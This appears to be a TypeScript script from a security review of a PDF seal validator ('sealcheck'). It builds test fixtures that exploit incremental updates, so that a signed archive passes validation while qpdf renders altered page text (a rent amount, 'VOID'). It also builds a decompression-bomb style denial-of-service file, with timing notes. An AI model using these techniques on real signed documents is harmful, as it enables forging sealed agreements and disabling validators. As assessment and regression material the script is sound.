// Attack round 2: incremental updates on the sealed archives that sealcheck calls TOTAL-PASSED while a reader
// (qpdf) shows something other than the sealed revision. Deterministic (no time, no randomness).
// Run: npx tsx scripts/attack-round2/build.ts   (writes test/fixtures/attack-round2/*.pdf and prints verdicts)
import { writeFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { appendRevision, REAL, SAMPLE, verdict } from "./lib.js";
import { buildObjStmDos } from "./dos-objstm.js";

const OUT = "test/fixtures/attack-round2";
const flate = (s: string) => deflateSync(Buffer.from(s, "latin1"), { level: 9 });

const fixtures: Record<string, { bytes: Uint8Array; real: boolean }> = {};

// Finding 1: an update whose only xref entry is object 0 *in use*, at an unlisted redefinition of page 1's
// content stream 5. sealcheck never resolves object 0 (nothing refers to it) nor reads bytes no entry names;
// qpdf reads object 0 when it writes the file, takes whatever `N G obj` it finds there and caches it under
// N: `qpdf in.pdf out.pdf` (and --linearize, --split-pages, …) writes page 1 with the new content.
fixtures["object0-poisons-qpdf.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, {
    objects: [
      {
        num: 5,
        body: "<< /Filter /FlateDecode >>",
        stream: flate("q 1 1 1 rg 55 480 500 300 re f Q q 1 0 0 rg BT /Helvetica-7098480789 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET Q"),
        listed: false,
      },
    ],
    extra: (o) => [{ num: 0, offset: o.get("5") as number }],
    trailer: "/Root 2 0 R /Info 3 0 R",
    size: 26,
  }),
};

// Finding 1 on the broker's real archive: page 1's content 5 redefined, reached by qpdf through object 0.
fixtures["real-object0-poisons-qpdf.pdf"] = {
  real: true,
  bytes: appendRevision(REAL, {
    objects: [
      {
        num: 5,
        body: "<< /Filter /FlateDecode >>",
        stream: flate("q 1 0 0 rg BT /F1 28 Tf 60 700 Td (Demo Agreement: VOID) Tj ET Q"),
        listed: false,
      },
    ],
    extra: (o) => [{ num: 0, offset: o.get("5") as number }],
    trailer: "/Root 1 0 R /Info 3 0 R",
    size: 36,
  }),
};

// Finding 1, weaker form: a new, unreferenced object 26 listed at the offset of an unlisted `5 0 obj`.
// sealcheck never resolves 26; qpdf --check / --json=2 / any rewrite do: "expected 26 0 obj", "file is
// damaged", "Attempting to reconstruct cross-reference table" (the scan's last `N G obj` wins from then on).
fixtures["unreferenced-entry-mismatch.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, {
    objects: [{ num: 5, body: "<< /Filter /FlateDecode >>", stream: flate("q 1 0 0 rg BT /Helvetica-7098480789 28 Tf 60 700 Td (Husleje: 1 kr.) Tj ET Q"), listed: false }],
    extra: (o) => [{ num: 26, offset: o.get("5") as number }],
    trailer: "/Root 2 0 R /Info 3 0 R",
    size: 27,
  }),
};

// Finding 2 (time): one update whose DSS /Certs names object 0 of six object streams, each header claiming
// 1.9M pairs (fixed-width numbers, PNG Up predictor: ~200 KB each in the file, 36 MB decoded). No limit
// counts header pairs (only xref entries are charged to maxPdfObjects, and /N only per stream); every header
// is tokenized in full. 1.2 MB: ~17 s, ~730 MB; `npx tsx scripts/attack-round2/dos-objstm.ts 27 1900000`
// writes a 5.3 MB variant that takes ~75 s. TOTAL-PASSED either way (a DSS is LTV).
fixtures["dos-objstm-headers.pdf"] = { real: false, bytes: buildObjStmDos(SAMPLE, 6, 1_900_000) };

for (const [name, f] of Object.entries(fixtures)) {
  writeFileSync(`${OUT}/${name}`, f.bytes);
  const v = await verdict(name, f.bytes, f.real);
  console.log(name, v.indication, `${v.ms} ms`, v.bad.filter((b) => !b.startsWith("document-timestamps:skipped")).join(" | "));
}
